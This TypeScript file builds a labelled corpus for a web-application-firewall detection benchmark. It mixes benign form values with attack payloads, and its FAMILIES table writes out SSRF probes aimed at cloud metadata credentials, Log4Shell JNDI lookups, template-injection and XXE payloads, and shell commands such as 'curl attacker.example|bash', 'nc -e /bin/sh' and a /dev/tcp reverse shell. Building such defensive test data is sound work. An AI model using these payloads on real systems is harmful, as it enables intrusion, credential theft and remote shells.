// The detection bench's corpora (bench/waf/detection.ts): attack payloads and benign values, none kept in this
// repo, each labelled with a category and a source, and the request placements each value is sent in.
//
// Attacks:
//   wfuzz      Debian's wfuzz word lists (Injections/SQL, XSS, Traversal, XML; vulns/dirTraversal-nix sampled):
//              what a scanner sends; entries shorter than MIN_ATTACK_CHARS (a lone quote, `--`) are probes
//              that no WAF should refuse on their own ("O'Brien"), so they are left out
//   sqlmap     Debian's sqlmap payload templates (data/xml/payloads/*.xml) with its boundaries' prefixes and
//              suffixes and its placeholders filled the way sqlmap fills them
//   families   payload families the two lists lack, built here from templates: SSRF, NoSQL operators,
//              Log4Shell-style JNDI lookups, server-side template injection, XXE, OS commands, prototype
//              pollution
//   encoded    a sample of the above base64-encoded, double %-encoded, and %u-encoded, as attackers send them
//              to an application that decodes its parameters once more
// Benign (what a WAF must pass):
//   prose      sentences of the installed Debian packages' descriptions (/var/lib/dpkg/status): technical
//              English full of SQL, shell and markup words
//   names      first names (wfuzz others/names.txt) and surnames with apostrophes and hyphens
//   values     what forms carry: e-mail addresses, the packages' home-page URLs, versions, dates, phone
//              numbers, prices, search queries with punctuation
//
// Everything is chosen deterministically (a seeded generator), so two runs send the same requests.
import { existsSync, readFileSync } from 'node:fs';
import { seededRandom } from '../../src/runtime/chaos.ts';

export type Verdict = 'attack' | 'benign';

export interface Sample {
  verdict: Verdict;
  /** e.g. sqli, xss, lfi, ssrf …; for benign samples the kind of value. */
  category: string;
  source: string;
  value: string;
  /** A whole XML document, sent as a text/xml body rather than inside a parameter. */
  xmlDocument?: boolean;
}

const WFUZZ = '/usr/share/wfuzz/wordlist';
const SQLMAP = '/usr/share/sqlmap/data/xml';
const DPKG_STATUS = '/var/lib/dpkg/status';

/** The Debian packages the corpora come from; scripts/setup.sh installs them. */
export const CORPUS_PACKAGES = ['wfuzz', 'sqlmap'] as const;

const MIN_ATTACK_CHARS = 6;

function sample<T>(items: readonly T[], count: number, random: () => number): T[] {
  if (items.length <= count) return [...items];
  const pool = [...items];
  for (let i = pool.length - 1; i > 0; i--) {
    const j = Math.floor(random() * (i + 1));
    [pool[i], pool[j]] = [pool[j] as T, pool[i] as T];
  }
  return pool.slice(0, count);
}

function lines(path: string): string[] {
  return readFileSync(path, 'latin1')
    .split('\n')
    .map((l) => l.replace(/\r$/, ''))
    .filter((l) => l.trim() !== '');
}

/** Files a corpus needs that are missing: the packages to install. */
export function missingCorpusFiles(): string[] {
  return [`${WFUZZ}/Injections/SQL.txt`, `${SQLMAP}/payloads/union_query.xml`, DPKG_STATUS].filter((f) => !existsSync(f));
}

// ------------------------------------------------------------------------------------------ attacks

function wfuzzAttacks(random: () => number): Sample[] {
  const lists: [string, string, number][] = [
    ['Injections/SQL.txt', 'sqli', Infinity],
    ['Injections/XSS.txt', 'xss', Infinity],
    ['Injections/Traversal.txt', 'lfi', Infinity],
    ['Injections/XML.txt', 'xml', Infinity],
    ['vulns/dirTraversal-nix.txt', 'lfi', 150],
  ];
  return lists.flatMap(([file, category, count]) =>
    sample(
      lines(`${WFUZZ}/${file}`).filter((l) => l.length >= MIN_ATTACK_CHARS),
      count,
      random,
    ).map((value): Sample => ({ verdict: 'attack', category, source: `wfuzz ${file}`, value, xmlDocument: category === 'xml' && value.startsWith('<?xml') })),
  );
}

/** sqlmap's placeholders, filled as sqlmap does for a MySQL target (its most common). */
function fillSqlmap(template: string, random: () => number): string {
  const num = () => String(1000 + Math.floor(random() * 9000));
  const str = () => Array.from({ length: 4 }, () => String.fromCharCode(97 + Math.floor(random() * 26))).join('');
  return template
    .replace(/\[RANDNUM\d?\]/g, num)
    .replace(/\[RANDSTR\d?\]/g, str)
    .replaceAll('[SLEEPTIME]', '5')
    .replaceAll('[DELIMITER_START]', 'qzkvq')
    .replaceAll('[DELIMITER_STOP]', 'qpjxq')
    .replaceAll('[INFERENCE]', `${num()}=${num()}`)
    .replaceAll('[QUERY]', 'SELECT table_name FROM information_schema.tables')
    .replaceAll('[DELAYED]', 'SLEEP(5)')
    .replaceAll('[ORIGVALUE]', '1')
    .replaceAll('[ORIGINAL]', '1')
    .replaceAll('[UNION]', 'UNION ALL SELECT NULL,NULL,NULL')
    .replaceAll('[CHAR]', 'NULL')
    .replaceAll('[GENERIC_SQL_COMMENT]', '-- -')
    .replaceAll('[COLSTART]', '1')
    .replaceAll('[COLSTOP]', '3')
    .replace(/\[(?:SPACE|DOLLAR|AT|HASH)_REPLACE\]/g, ' ');
}

function xmlTexts(file: string, tag: string): string[] {
  const text = readFileSync(file, 'utf8');
  return [...text.matchAll(new RegExp(`<${tag}>([^<]*)</${tag}>`, 'g'))].map((m) => decodeXmlText(m[1] ?? ''));
}

function decodeXmlText(text: string): string {
  return text.replaceAll('&lt;', '<').replaceAll('&gt;', '>').replaceAll('&quot;', '"').replaceAll('&apos;', "'").replaceAll('&amp;', '&');
}

function sqlmapAttacks(random: () => number): Sample[] {
  const prefixes = xmlTexts(`${SQLMAP}/boundaries.xml`, 'prefix');
  const suffixes = xmlTexts(`${SQLMAP}/boundaries.xml`, 'suffix');
  const files = ['boolean_blind', 'error_based', 'inline_query', 'stacked_queries', 'time_blind', 'union_query'];
  const templates = [...new Set(files.flatMap((f) => xmlTexts(`${SQLMAP}/payloads/${f}.xml`, 'payload')).filter((p) => p.trim() !== ''))];
  return sample(templates, 200, random).map((template) => {
    const i = Math.floor(random() * prefixes.length);
    const value = `1${fillSqlmap(prefixes[i] ?? '', random)} ${fillSqlmap(template, random)}${fillSqlmap(suffixes[i] ?? '', random)}`.trim();
    return { verdict: 'attack', category: 'sqli', source: 'sqlmap payloads', value };
  });
}

/**
 * Families the word lists lack. Each template's `{}` takes each of its fillers, so one family yields variants
 * an attacker would try, not one string.
 */
const FAMILIES: readonly { category: string; templates: readonly string[]; fillers: readonly string[] }[] = [
  {
    category: 'ssrf',
    templates: ['{}', 'http://{}', 'https://{}/', 'gopher://{}:6379/_INFO', 'dict://{}:11211/stats'],
    fillers: [
      '169.254.169.254/latest/meta-data/iam/security-credentials/',
      'metadata.google.internal/computeMetadata/v1/',
      '169.254.169.254/metadata/instance?api-version=2021-02-01',
      '[::ffff:169.254.169.254]/latest/',
      '0xa9fea9fe/latest/meta-data/',
      '2852039166/latest/meta-data/',
      '127.0.0.1:2375/containers/json',
      'localhost:8500/v1/agent/self',
      '100.100.100.200/latest/meta-data/',
    ],
  },
  { category: 'ssrf', templates: ['{}'], fillers: ['file:///etc/passwd', 'file:///proc/self/environ', 'gopher://127.0.0.1:25/_HELO', 'ldap://127.0.0.1:389/dc=x', 'jar:http://127.0.0.1/x.jar!/'] },
  {
    category: 'nosql',
    templates: ['{}'],
    fillers: [
      '{"$ne": null}',
      '{"$gt": ""}',
      '{"$regex": ".*"}',
      '{"$where": "this.password.length > 0"}',
      '{"$where": "sleep(5000)"}',
      "'; return true; var x='",
      '{"$or": [{}, {"a": "a"}]}',
      '{"username": {"$in": ["admin", "root"]}}',
      "db.users.find({$where: function() { return true }})",
      '{"$expr": {"$function": {"body": "function(){return 1}", "args": [], "lang": "js"}}}',
    ],
  },
  {
    category: 'log4shell',
    templates: ['{}', 'Mozilla/5.0 {}', 'x{}x'],
    fillers: [
      '${jndi:ldap://attacker.example/a}',
      '${jndi:rmi://attacker.example:1099/obj}',
      '${jndi:dns://attacker.example/x}',
      '${${lower:j}ndi:ldap://attacker.example/a}',
      '${${::-j}${::-n}${::-d}${::-i}:ldap://attacker.example/a}',
      '${${env:NaN:-j}ndi${env:NaN:-:}ldap://attacker.example/a}',
      '${jndi:${lower:l}${lower:d}a${lower:p}://attacker.example/a}',
      '${${upper:j}${upper:n}${upper:d}${upper:i}:ldap://attacker.example/a}',
    ],
  },
  {
    category: 'ssti',
    templates: ['{}', 'Hello {}'],
    fillers: [
      '{{7*7}}',
      '{{config.items()}}',
      "{{''.__class__.__mro__[1].__subclasses__()}}",
      "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
      '${7*7}',
      '#{7*7}',
      '<%= 7*7 %>',
      '<%= system("id") %>',
      "${T(java.lang.Runtime).getRuntime().exec('id')}",
      '{{request.application.__globals__.__builtins__.__import__("os").popen("id").read()}}',
      "*{T(java.lang.Runtime).getRuntime().exec('id')}",
      '[[${7*7}]]',
      '{php}echo `id`;{/php}',
      '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
      "{{range.constructor(\"return global.process.mainModule.require('child_process').execSync('id')\")()}}",
    ],
  },
  {
    category: 'xxe',
    templates: ['{}'],
    fillers: [
      '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "file:///etc/passwd">]><r>&x;</r>',
      '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY x SYSTEM "http://169.254.169.254/latest/meta-data/">]><r>&x;</r>',
      '<?xml version="1.0"?><!DOCTYPE r [<!ENTITY % p SYSTEM "http://attacker.example/e.dtd"> %p;]><r/>',
      '<!DOCTYPE r [<!ENTITY x SYSTEM "php://filter/convert.base64-encode/resource=index.php">]><r>&x;</r>',
      '<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lol"><!ENTITY lol2 "&lol;&lol;&lol;&lol;&lol;">]><lolz>&lol2;</lolz>',
      '<?xml version="1.0"?><!DOCTYPE r SYSTEM "http://attacker.example/evil.dtd"><r>x</r>',
    ],
  },
  {
    category: 'rce',
    templates: ['{}', '1;{}', '1|{}', '$({})', '`{}`', '1&&{}'],
    fillers: ['cat /etc/passwd', 'id', 'wget http://attacker.example/x.sh -O- | sh', 'curl attacker.example|bash', 'nc -e /bin/sh attacker.example 4444', 'uname -a', 'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1', 'python3 -c "import os;os.system(\'id\')"', 'powershell -enc SQBFAFgA'],
  },
  {
    category: 'proto',
    templates: ['{}'],
    fillers: ['{"__proto__": {"isAdmin": true}}', '{"constructor": {"prototype": {"isAdmin": true}}}', '__proto__[isAdmin]=true', 'constructor[prototype][isAdmin]=true', '{"a": {"__proto__": {"polluted": 1}}}'],
  },
];

function familyAttacks(): Sample[] {
  return FAMILIES.flatMap(({ category, templates, fillers }) =>
    templates.flatMap((t) =>
      fillers.map((f): Sample => {
        const value = t.replace('{}', f);
        return { verdict: 'attack', category, source: 'families (bench/waf/corpus.ts)', value, xmlDocument: category === 'xxe' };
      }),
    ),
  );
}

function utf16Escape(text: string): string {
  return [...text].map((c) => (/[A-Za-z0-9]/.test(c) ? c : `%u${c.charCodeAt(0).toString(16).padStart(4, '0')}`)).join('');
}

/** A sample of the plain attacks, each encoded once more, as sent to an application that decodes it. */
function encodedAttacks(plain: readonly Sample[], random: () => number): Sample[] {
  const base = sample(
    plain.filter((s) => !s.xmlDocument && s.category !== 'lfi'),
    60,
    random,
  );
  return base.flatMap((s): Sample[] => [
    { verdict: 'attack', category: `${s.category}/base64`, source: `${s.source}, base64`, value: Buffer.from(s.value, 'latin1').toString('base64') },
    { verdict: 'attack', category: `${s.category}/url2`, source: `${s.source}, %-encoded twice`, value: encodeURIComponent(encodeURIComponent(s.value)) },
    { verdict: 'attack', category: `${s.category}/%u`, source: `${s.source}, %u-encoded`, value: utf16Escape(s.value) },
  ]);
}

// ------------------------------------------------------------------------------------------ benign

/** Installed packages' descriptions, one sentence a sample. */
function proseSamples(random: () => number, count: number): Sample[] {
  const text = readFileSync(DPKG_STATUS, 'utf8');
  const sentences = new Set<string>();
  for (const block of text.split('\n\n')) {
    const description = /\nDescription: ([^\n]*)((?:\n [^\n]*)*)/.exec(block);
    if (description === null) continue;
    const body = `${description[1] ?? ''} ${(description[2] ?? '').replace(/\n \.?/g, ' ')}`.replace(/\s+/g, ' ');
    for (const sentence of body.split(/(?<=[.!?])\s+/)) {
      const s = sentence.trim();
      if (s.length >= 20 && s.length <= 400) sentences.add(s);
    }
  }
  return sample([...sentences], count, random).map((value) => ({ verdict: 'benign', category: 'prose', source: 'dpkg descriptions', value }));
}

const SURNAMES = ["O'Brien", "D'Angelo", 'Smith-Jones', "O'Neil-Garcia", 'van der Berg', 'McDonald', "N'Dour", 'Müller', 'García Márquez', 'São Paulo'];

function nameSamples(random: () => number, count: number): Sample[] {
  const first = sample(lines(`${WFUZZ}/others/names.txt`), count, random);
  return first.map((name, i) => ({
    verdict: 'benign',
    category: 'names',
    source: 'wfuzz others/names.txt + surnames',
    value: i % 3 === 0 ? `${name} ${SURNAMES[i % SURNAMES.length] ?? ''}` : name,
  }));
}

function homepages(): string[] {
  const text = readFileSync(DPKG_STATUS, 'utf8');
  return [...new Set([...text.matchAll(/\nHomepage: (\S+)/g)].map((m) => m[1] ?? ''))].filter((u) => u !== '');
}

const QUERIES = [
  'c++ vs rust performance',
  "what's new in python 3.12?",
  '50% off winter sale',
  'tom & jerry',
  'how to select all rows from a table',
  'drop shipping suppliers uk',
  'union square cafe opening hours',
  'script for a wedding speech',
  'best "noise cancelling" headphones',
  'alert: flight delayed',
  'where is the nearest post office',
  'delete my account please',
  'insert coin arcade (retro)',
  'order by price: low to high',
  'cat and dog food 5kg',
  'exec summary template',
  '1 + 1 = 2',
  'email me at <alice@example.com>',
  'grep -r "TODO" src/',
  'ls -la ~/Documents',
  'SELECT * FROM my heart WHERE love = true',
  '<3 thank you so much!',
  'rock & roll hall of fame',
  'mr. smith\'s "famous" pie',
  'a/b testing; best practices',
  'temperature < 30 and humidity > 70',
];

function valueSamples(random: () => number): Sample[] {
  const urls = sample(homepages(), 80, random);
  const values: [string, string][] = [
    ...urls.map((u): [string, string] => ['url', u]),
    ...QUERIES.map((q): [string, string] => ['query', q]),
    ...Array.from({ length: 30 }, (_, i): [string, string] => ['email', `user.${i}+news@mail${i % 7}.example.org`]),
    ...Array.from({ length: 20 }, (_, i): [string, string] => ['date', new Date(Date.UTC(2020, i % 12, 1 + i, 9, 30)).toISOString()]),
    ...Array.from({ length: 20 }, (_, i): [string, string] => ['phone', `+1 (555) ${String(100 + i * 7).padStart(3, '0')}-${String(1000 + i * 37)}`]),
    ...Array.from({ length: 20 }, (_, i): [string, string] => ['price', `€${(i * 13.37).toFixed(2)} / $${(i * 14.5).toFixed(2)}`]),
    ...Array.from({ length: 20 }, (_, i): [string, string] => ['version', `${i}.${i * 3}.${i % 5}-rc${i % 3}+build.${i * 11}`]),
    ...Array.from({ length: 20 }, (_, i): [string, string] => ['json', JSON.stringify({ id: i, tags: ['a', 'b'], note: `item #${i} (draft)`, price: i * 1.5 })]),
  ];
  return values.map(([category, value]) => ({ verdict: 'benign', category, source: category === 'url' ? 'dpkg Homepage fields' : 'values (bench/waf/corpus.ts)', value }));
}

export interface Corpus {
  attacks: Sample[];
  benign: Sample[];
}

export function buildCorpus(seed = 20_261_202): Corpus {
  const random = seededRandom(seed);
  const plain = [...wfuzzAttacks(random), ...sqlmapAttacks(random), ...familyAttacks()];
  const attacks = [...plain, ...encodedAttacks(plain, random)];
  const benign = [...proseSamples(random, 400), ...nameSamples(random, 150), ...valueSamples(random)];
  return { attacks, benign };
}
